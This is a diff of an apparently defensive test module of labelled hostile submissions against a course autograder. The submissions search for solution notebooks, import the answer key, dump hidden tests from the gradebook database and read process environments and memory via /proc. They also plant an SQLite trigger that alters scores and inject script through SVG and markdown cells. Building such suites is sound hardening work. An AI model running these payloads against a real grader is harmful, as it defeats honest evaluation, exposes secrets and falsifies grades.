@@ -1,7 +1,5 @@
 """Class 3: the key is in reach, for reading and for writing."""
 
-import json
-
 from hostile.submission import MARK, Course, Link, Made, Submission, attack
 
 RUN_ANSWERS = """
@@ -50,19 +48,19 @@ def runs_the_solutions(course: Course) -> Submission:
 
 @attack(3)
 def looks_for_the_solutions(course: Course) -> Submission:
-    """The whole disk below the usual places is searched for notebooks with solutions in them."""
+    """Notebooks with solutions are searched around the course and around the package."""
     return everywhere(
         course,
         """
-import glob, os
-found = [path for start in (W["root"], os.getcwd() + "/../../..", os.path.dirname(os.path.dirname(W["root"])))
-         for path in glob.glob(start + "/**/s*/**/*.ipynb", recursive=True)[:200]]
+import glob, importlib.util, os
+package = importlib.util.find_spec("aipm_course")
+places = {os.path.dirname(W["root"]), *(os.path.dirname(place) for place in package.submodule_search_locations)}
+found = [path for start in places for name in ("source", "solutions")
+         for depth in ("/", "/*/") for path in glob.glob(start + depth + name + "/*/*.ipynb")]
 for PATH in found:
-    if "solutions" in PATH or "source" in PATH:
-        print(open(PATH, "rb").read())
+    print(open(PATH, "rb").read())
 """
-        + "        "
-        + RUN_ANSWERS.strip().replace("\n", "\n        "),
+        + RUN_ANSWERS.replace("\n", "\n    "),
     )
 
 
@@ -70,7 +68,6 @@ IMPORT_KEY = """
 import os
 os.environ.pop("AIPM_GRADING", None)
 import aipm_course.questions as key
-wanted = iter(IDS)
 for name, question in NAMES.items():
     found = key.find(question)
     globals()[name] = found.reference(found.data(seed))
@@ -86,7 +83,7 @@ def names(course: Course) -> dict[str, str]:
 @attack(3, own_only=True)
 def imports_the_answer_key(course: Course) -> Submission:
     """The package's own references compute the answers."""
-    return everywhere(course, f"NAMES = {names(course)!r}\nIDS = ()" + IMPORT_KEY)
+    return everywhere(course, f"NAMES = {names(course)!r}" + IMPORT_KEY)
 
 
 @attack(3, own_only=True)
@@ -147,7 +144,6 @@ def reads_hidden_tests_from_the_gradebook(course: Course) -> Submission:
     return course.blank().first(
         "import sqlite3\n"
         "book = sqlite3.connect('file:' + W['gradebook'] + '?mode=ro', uri=True)\n"
-        "print(book.execute('select * from base_cell').fetchall() if 0 else '')\n"
         "for (table,) in book.execute(\"select name from sqlite_master where type = 'table'\").fetchall():\n"
         "    print(book.execute('select * from ' + table).fetchall())"
     )
@@ -191,13 +187,12 @@ def reads_the_environment(course: Course) -> Submission:
         """
 import glob, os
 print(dict(os.environ))
-for path in glob.glob("/proc/[0-9]*/environ"):
+for process in glob.glob("/proc/[0-9]*"):
     try:
-        text = open(path, "rb").read()
+        if os.readlink(process + "/cwd").startswith((W["root"], os.getcwd())):
+            print(open(process + "/environ", "rb").read())
     except OSError:
         continue
-    if W["home"].encode() in text:
-        print(text)
 """
     )
 
@@ -208,7 +203,7 @@ def reads_the_parent_s_memory(course: Course) -> Submission:
     return course.blank().first(
         """
 import os
-for pid in {os.getppid(), 1} - {0}:
+for pid in {os.getppid()} - {0}:
     try:
         for line in open(f"/proc/{pid}/maps"):
             if "[stack]" in line:
@@ -294,9 +289,7 @@ def plants_a_trigger_in_the_gradebook(course: Course) -> Submission:
     return course.blank().first(
         "import sqlite3\n"
         "book = sqlite3.connect(W['gradebook'], timeout=5)\n"
-        "book.execute('create trigger helper after update on grade begin update grade set manual_score = 99 "
-        "where id = new.id and assignment is not null; end' if 0 else "
-        "'create trigger helper after update of auto_score on grade begin update grade set manual_score = 2 "
+        "book.execute('create trigger helper after update of auto_score on grade begin update grade set manual_score = 2 "
         "where id = new.id; end')\n"
         "book.commit()"
     )
@@ -511,5 +504,4 @@ display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"x('{MARK}-svg')\
     made.nb["cells"].append(
         {"cell_type": "markdown", "id": "more", "metadata": {}, "source": f"<script>x('{MARK}-more')</script>"}
     )
-    json.dumps(made.nb)
     return made
